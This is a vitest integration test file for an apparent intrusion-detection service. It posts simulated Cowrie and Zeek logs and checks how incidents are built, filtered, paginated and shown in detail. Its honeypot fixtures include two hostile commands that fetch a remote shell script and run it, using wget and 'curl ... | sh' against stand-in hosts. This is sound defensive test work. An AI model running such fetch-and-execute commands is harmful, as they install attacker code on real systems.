import { describe, expect, it } from 'vitest';
import { benignConn, commandInput, detect, failedLogin, postMulti, zeekScan } from '../../tests/fixtures/cases.ts';
import { createTestOrg } from '../../tests/fixtures/identity.ts';
import { useTestServer } from '../../tests/harness.ts';

const t = useTestServer();
const BRUTE_IP = '203.0.113.10';
const SCAN_IP = '192.0.2.66';

type Incident = { id: number; threat_category: string; src_ip: string; status: string; [key: string]: unknown };

describe('incidents from detection over HTTP', () => {
  it('builds one brute-force incident, extends it, adds a scan incident, ignores benign traffic, and serves it all', async () => {
    const org = await createTestOrg(t.deps);
    for (let second = 0; second < 6; second++) {
      await postMulti(t, org, 'cowrie', [failedLogin(BRUTE_IP, second * 5)]);
      await detect(t, org);
    }
    const first = await t.http.get<Incident[]>('/incidents', org.admin.headers);
    expect(first.status).toBe(200);
    expect(first.headers.get('x-total-count')).toBe('1');
    expect(first.body).toHaveLength(1);
    const [incident] = first.body;
    expect(incident).toMatchObject({
      threat_category: 'brute_force',
      src_ip: BRUTE_IP,
      status: 'open',
      tenant_id: org.slug,
      triage_note: null,
      containment_method: null,
      agent_confidence: null,
      ml_confidence: null,
      council_confidence: null,
      council_verdict: null,
      auto_contained: false,
      last_action: null,
      created_by: 'detection',
      items: [],
      alert_count: 1,
    });
    expect(incident?.mitre).toContain('T1110.001');
    const id = incident?.id;
    const before = await t.http.get(`/incidents/${id}`, org.admin.headers);
    const occurrencesBefore = before.body.alerts[0].occurrences;

    for (let second = 30; second < 90; second++) {
      await postMulti(t, org, 'cowrie', [failedLogin(BRUTE_IP, second)]);
      if (second % 10 === 0) await detect(t, org);
    }
    await postMulti(t, org, 'cowrie', [commandInput(BRUTE_IP, 95, 'wget http://malware.example.test/x.sh -O /tmp/x.sh')]);
    await detect(t, org);
    const extended = await t.http.get<Incident[]>('/incidents', org.admin.headers);
    expect(extended.body.map((row) => row.id)).toEqual([id]);
    const after = await t.http.get(`/incidents/${id}?events_limit=200`, org.admin.headers);
    expect(after.body.alerts.filter((alert: { detector: string }) => alert.detector === 'ssh_brute_force')).toHaveLength(1);
    expect(after.body.alerts[0].occurrences).toBeGreaterThan(occurrencesBefore);
    expect(after.body.event_summary.total_events).toBeGreaterThanOrEqual(66);

    await postMulti(t, org, 'zeek', zeekScan(SCAN_IP, 40));
    await detect(t, org);
    await postMulti(t, org, 'zeek', [benignConn(1), benignConn(2)]);
    await postMulti(t, org, 'cowrie', [failedLogin('203.0.113.99', 0), failedLogin('203.0.113.99', 10)]);
    await detect(t, org);
    const all = await t.http.get<Incident[]>('/incidents', org.admin.headers);
    expect(all.headers.get('x-total-count')).toBe('2');
    expect(all.body.map((row) => row.threat_category)).toEqual(['reconnaissance', 'brute_force']);
    expect(all.body[0]?.src_ip).toBe(SCAN_IP);
  });
});

describe('GET /incidents filters and pagination', () => {
  it('filters by every documented field, pages newest first, and reports the total', async () => {
    const org = await createTestOrg(t.deps);
    await postMulti(
      t,
      org,
      'cowrie',
      Array.from({ length: 6 }, (_, i) => failedLogin(BRUTE_IP, i * 5)),
    );
    await postMulti(t, org, 'zeek', zeekScan(SCAN_IP, 30));
    await detect(t, org);
    const ids = (await t.http.get<Incident[]>('/incidents', org.admin.headers)).body.map((row) => row.id);
    expect(ids).toHaveLength(2);
    const list = async (query: string) => {
      const response = await t.http.get<Incident[]>(`/incidents?${query}`, org.admin.headers);
      expect(response.status).toBe(200);
      return { ids: response.body.map((row) => row.id), total: response.headers.get('x-total-count') };
    };
    expect(await list('threat_category=brute_force')).toMatchObject({ total: '1' });
    expect((await list(`src_ip=${SCAN_IP}`)).ids).toEqual([ids[0]]);
    expect((await list('status=open')).ids).toEqual(ids);
    expect((await list('status=resolved')).ids).toEqual([]);
    expect((await list('status=new')).ids).toEqual(ids);
    expect((await list('min_risk=0.99')).ids).toEqual([]);
    expect((await list('min_risk=0')).ids).toEqual(ids);
    expect((await list('escalation_level=medium')).ids.length).toBeGreaterThan(0);
    expect((await list(`since=${encodeURIComponent(new Date(Date.now() + 60_000).toISOString())}`)).ids).toEqual([]);
    expect((await list(`until=${encodeURIComponent(new Date(Date.now() + 60_000).toISOString())}`)).ids).toEqual(ids);
    expect(await list('limit=1')).toEqual({ ids: [ids[0]], total: '2' });
    expect(await list('limit=1&offset=1')).toEqual({ ids: [ids[1]], total: '2' });
    await t.http.patch(`/incidents/${ids[1]}`, { assigned_to: org.admin.id }, org.admin.headers);
    expect((await list(`assigned_to=${org.admin.id}`)).ids).toEqual([ids[1]]);
    for (const [query, field] of [
      ['limit=500', 'limit'],
      ['src_ip=not-an-ip', 'src_ip'],
      ['status=done', 'status'],
      ['min_risk=2', 'min_risk'],
      ['since=yesterday', 'since'],
    ]) {
      const bad = await t.http.get(`/incidents?${query}`, org.admin.headers);
      expect(bad.status, query).toBe(400);
      expect(bad.body.issues.map((issue: { path: string }) => issue.path)).toContain(field);
    }
  });
});

describe('GET /incidents/{id}', () => {
  it('returns the documented detail fields with bounded, paginated events', async () => {
    const org = await createTestOrg(t.deps);
    await postMulti(t, org, 'cowrie', [
      ...Array.from({ length: 12 }, (_, i) => failedLogin(BRUTE_IP, i * 2, i % 2 ? 'admin' : 'root')),
      commandInput(BRUTE_IP, 30, 'curl -fsSL http://203.0.113.200/bot.sh | sh'),
    ]);
    await detect(t, org);
    const [incident] = (await t.http.get<Incident[]>('/incidents', org.admin.headers)).body;
    const detail = await t.http.get(`/incidents/${incident?.id}?events_limit=5`, org.admin.headers);
    expect(detail.status).toBe(200);
    const body = detail.body;
    expect(body).toMatchObject({ id: incident?.id, events_limit: 5, events_offset: 0, tenant_id: org.slug });
    expect(body.triggering_events).toHaveLength(5);
    expect(body.detailed_events).toHaveLength(5);
    expect(body.detailed_events[0]).toMatchObject({ eventid: 'cowrie.login.failed', src_ip: BRUTE_IP, channel: 'multi', source: 'cowrie', username: 'root' });
    expect(body.event_summary.total_events).toBe(body.events_analyzed_count);
    expect(body.event_summary.event_counts_by_type['cowrie.login.failed']).toBeGreaterThanOrEqual(6);
    expect(body.event_summary.time_range.start).toBe(body.detailed_events[0].ts);
    expect(body.iocs.ips).toContain(BRUTE_IP);
    expect(body.iocs.usernames).toEqual(expect.arrayContaining(['root', 'admin']));
    expect(body.risk_evidence[0]).toMatchObject({ detector: 'ssh_brute_force' });
    expect(body.alerts[0]).toMatchObject({ detector: 'ssh_brute_force', occurrences: expect.any(Number) });
    expect(body.timeline.map((entry: { kind: string }) => entry.kind)).toContain('created');
    const times = body.attack_timeline.map((entry: { at: string }) => entry.at);
    expect([...times].sort()).toEqual(times);
    const page2 = await t.http.get(`/incidents/${incident?.id}?events_limit=5&events_offset=5`, org.admin.headers);
    const firstIds = body.detailed_events.map((event: { id: number }) => event.id);
    expect(page2.body.detailed_events.map((event: { id: number }) => event.id).some((eventId: number) => firstIds.includes(eventId))).toBe(false);
    expect((await t.http.get(`/incidents/${incident?.id}?events_limit=201`, org.admin.headers)).status).toBe(400);
    for (const bad of ['abc', '0', '-1', '1.5']) {
      const response = await t.http.get(`/incidents/${bad}`, org.admin.headers);
      expect(response.status, bad).toBe(400);
      expect(response.body.issues[0].path).toBe('id');
    }
    expect((await t.http.get('/incidents/999999999', org.admin.headers)).status).toBe(404);
  });
});
